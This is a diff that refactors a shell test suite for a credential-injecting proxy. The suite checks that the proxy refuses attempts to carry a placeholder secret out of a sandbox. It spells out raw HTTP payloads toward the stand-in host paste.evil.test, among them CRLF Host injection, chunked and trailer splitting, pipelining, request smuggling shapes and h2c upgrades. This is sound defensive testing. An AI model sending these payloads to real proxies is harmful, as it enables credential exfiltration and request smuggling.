@@ -49,6 +49,24 @@ refused() { # desc statuses-ERE output before
 	ESC_EV="status $st${why:+, X-Portcullis-Error: $why}; nginx: no request"
 }
 
+# One case the vault must refuse: REQUEST with SNI (to CONNECT's address,
+# default api.github.test), judged by refused.
+refuse_case() { # description name statuses-ERE sni request [connect-host]
+	esc_begin "$1"
+	b=$(up_lines)
+	out=$(rawreq "$4" "$5" "${6:-}")
+	refused "$2" "$3" "$out" "$b"
+	esc_end "refused" "$ESC_EV"
+}
+
+# A request let through: the value stayed out of the sandbox's answer and
+# went to no upstream but api.github.test ($st: the status it got).
+value_kept() { # output
+	st=$(status_of "$1")
+	t_nomatch "the sandbox never sees the value" "$V_GH_VALUE" "$1"
+	t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
+}
+
 t_match "baseline: the placeholder to its bound host is injected" "auth=Bearer $PH" \
 	"$(vcurl 1 https://api.github.test/echo -H "Authorization: Bearer $PH")"
 
@@ -61,11 +79,8 @@ t_eq "the upstream saw nothing" "$b" "$(up_lines)"
 r=$(esc_reason '"tls.client.server_name":"cdn-evil.test"')
 esc_end "handshake refused" "client: $(printf '%s' "$out" | head -1); nginx: no request; log: \"$r\""
 
-esc_begin "TLS with SNI paste.evil.test (allowed for this sandbox) on api.github.test's address, with the placeholder"
-b=$(up_lines)
-out=$(rawreq paste.evil.test "GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
-refused "another allowed name" "403|502" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "TLS with SNI paste.evil.test (allowed for this sandbox) on api.github.test's address, with the placeholder" "another allowed name" "403|502" paste.evil.test \
+	"GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"
 
 esc_begin "TLS without SNI to the bound host's address"
 b=$(up_lines)
@@ -78,25 +93,17 @@ esc_end "handshake refused" "openssl: $(printf '%s' "$out" | grep -m1 -oE 'alert
 # ---- Host header games -----------------------------------------------------------------------
 for host in "paste.evil.test" "api.github.test:444" "api.github.test@paste.evil.test" "api.github.test.evil.test" \
 	"api.github.test\r\nHost: paste.evil.test"; do
-	esc_begin "Host: $(printf '%s' "$host" | sed 's/\\r\\n/ + /') with SNI api.github.test and the placeholder"
-	b=$(up_lines)
-	out=$(rawreq api.github.test "GET /echo HTTP/1.1\r\nHost: $host\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
-	refused "Host $host" "400|421" "$out" "$b"
-	esc_end "refused" "$ESC_EV"
+	refuse_case "Host: $(printf '%s' "$host" | sed 's/\\r\\n/ + /') with SNI api.github.test and the placeholder" "Host $host" "400|421" api.github.test \
+		"GET /echo HTTP/1.1\r\nHost: $host\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"
 done
 
-esc_begin "absolute-form request target naming another host (GET https://paste.evil.test/echo)"
-b=$(up_lines)
-out=$(rawreq api.github.test "GET https://paste.evil.test/echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
-refused "absolute-form" "400" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "absolute-form request target naming another host (GET https://paste.evil.test/echo)" "absolute-form" "400" api.github.test \
+	"GET https://paste.evil.test/echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"
 
 esc_begin "Host with a trailing dot and in capitals (the same name, written otherwise)"
 b=$(up_lines)
 out=$(rawreq api.github.test "GET /echo HTTP/1.1\r\nHost: API.GITHUB.TEST.\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
-st=$(status_of "$out")
-t_nomatch "the sandbox never sees the value" "$V_GH_VALUE" "$out"
-t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
+value_kept "$out"
 esc_end "status $st" "the value reached only api.github.test (nginx), never the sandbox"
 
 # ---- where the placeholder may not go ---------------------------------------------------------
@@ -113,9 +120,7 @@ for case in "path|GET /echo/$PH HTTP/1.1\r\nHost: api.github.test\r\n" \
 	out=$(rawreq api.github.test "${req}Connection: close\r\n\r\n")
 	if [ "$name" = "percent-encoded path" ]; then
 		# not a placeholder to the vault's eyes: a worthless string, never the value
-		st=$(status_of "$out")
-		t_nomatch "the sandbox never sees the value" "$V_GH_VALUE" "$out"
-		t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
+		value_kept "$out"
 		t_nomatch "nothing was injected for it" "$V_GH_VALUE" "$(v_upstream_log | tail -1)"
 		esc_end "status $st: passed as a worthless string, nothing injected" "nginx: the request without any credential"
 		continue
@@ -125,19 +130,13 @@ for case in "path|GET /echo/$PH HTTP/1.1\r\nHost: api.github.test\r\n" \
 	esc_end "refused" "$ESC_EV; log: exfiltration record"
 done
 
-esc_begin "the placeholder split across two chunks of a chunked body"
-b=$(up_lines)
 h=$((${#PH} / 2))
 p1=${PH:0:$h} p2=${PH:$h}
-out=$(rawreq api.github.test "POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n$(printf '%x' ${#p1})\r\n$p1\r\n$(printf '%x' ${#p2})\r\n$p2\r\n0\r\n\r\n")
-refused "split in chunks" "403" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "the placeholder split across two chunks of a chunked body" "split in chunks" "403" api.github.test \
+	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n$(printf '%x' ${#p1})\r\n$p1\r\n$(printf '%x' ${#p2})\r\n$p2\r\n0\r\n\r\n"
 
-esc_begin "the placeholder in a chunked body's trailer"
-b=$(up_lines)
-out=$(rawreq api.github.test "POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\nX-T: $PH\r\n\r\n")
-refused "trailer" "400|403" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "the placeholder in a chunked body's trailer" "trailer" "400|403" api.github.test \
+	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\nX-T: $PH\r\n\r\n"
 
 esc_begin "a good request, then a pipelined second one for another Host with the placeholder"
 b=$(up_lines)
@@ -148,12 +147,9 @@ t_eq "the upstream saw only the first" "$((b + 1))" "$(up_lines)"
 t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
 esc_end "second request 421" "nginx: one request (the first); X-Portcullis-Error: $(why_of "$out")"
 
-esc_begin "Basic credentials with the placeholder as the user name, toward pypi.test (bound elsewhere)"
-b=$(up_lines)
 cred=$(printf '%s:x' "$PH" | base64 -w0)
-out=$(rawreq pypi.test "GET /echo HTTP/1.1\r\nHost: pypi.test\r\nAuthorization: Basic $cred\r\nConnection: close\r\n\r\n" pypi.test)
-refused "basic user" "403" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "Basic credentials with the placeholder as the user name, toward pypi.test (bound elsewhere)" "basic user" "403" pypi.test \
+	"GET /echo HTTP/1.1\r\nHost: pypi.test\r\nAuthorization: Basic $cred\r\nConnection: close\r\n\r\n" pypi.test
 
 # ---- request smuggling shapes ------------------------------------------------------------------
 for case in "TE and CL|Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" \
@@ -168,20 +164,14 @@ for case in "TE and CL|Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\
 	"obs-fold|X-A: 1\r\n  folded\r\n\r\n" \
 	"NUL in a value|X-A: a\x00b\r\n\r\n"; do
 	name=${case%%|*} rest=${case#*|}
-	esc_begin "request smuggling shape: $name"
-	b=$(up_lines)
-	out=$(rawreq api.github.test "POST /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n$rest")
-	refused "$name" "400" "$out" "$b"
-	esc_end "refused" "$ESC_EV"
+	refuse_case "request smuggling shape: $name" "$name" "400" api.github.test \
+		"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n$rest"
 done
 
-esc_begin "a body (by Content-Length) that holds a second request with the placeholder for another host"
-b=$(up_lines)
 inner="GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\n\r\n"
 len=$(printf "$inner" | wc -c)
-out=$(rawreq api.github.test "POST /echo HTTP/1.1\r\nHost: api.github.test\r\nContent-Length: $len\r\nConnection: close\r\n\r\n$inner")
-refused "request in a body" "403" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "a body (by Content-Length) that holds a second request with the placeholder for another host" "request in a body" "403" api.github.test \
+	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nContent-Length: $len\r\nConnection: close\r\n\r\n$inner"
 
 # ---- reflection -------------------------------------------------------------------------------
 esc_begin "a reflecting endpoint, over HTTP/1.0 (close-delimited) and with HEAD"
@@ -200,17 +190,11 @@ out=$(client raw "$LAB_DIR/vault-ca.pem" api.github.test 443 api.github.test "GE
 t_nomatch "no h2 is negotiated" "^alpn: h2" "$out"
 esc_end "$(printf '%s' "$out" | head -1)" "the vault offers http/1.1 only"
 
-esc_begin "HTTP/2: the connection preface (prior knowledge) over TLS"
-b=$(up_lines)
-out=$(rawreq api.github.test "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
-refused "h2 preface" "400|505|none" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "HTTP/2: the connection preface (prior knowledge) over TLS" "h2 preface" "400|505|none" api.github.test \
+	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
-esc_begin "HTTP/2: an h2c upgrade with the placeholder"
-b=$(up_lines)
-out=$(rawreq api.github.test "GET /echo HTTP/1.1\r\nHost: api.github.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nAuthorization: Bearer $PH\r\n\r\n")
-refused "h2c" "501" "$out" "$b"
-esc_end "refused" "$ESC_EV"
+refuse_case "HTTP/2: an h2c upgrade with the placeholder" "h2c" "501" api.github.test \
+	"GET /echo HTTP/1.1\r\nHost: api.github.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nAuthorization: Bearer $PH\r\n\r\n"
 
 # ---- WebSocket after the upgrade ---------------------------------------------------------------------
 for mode in split ping; do
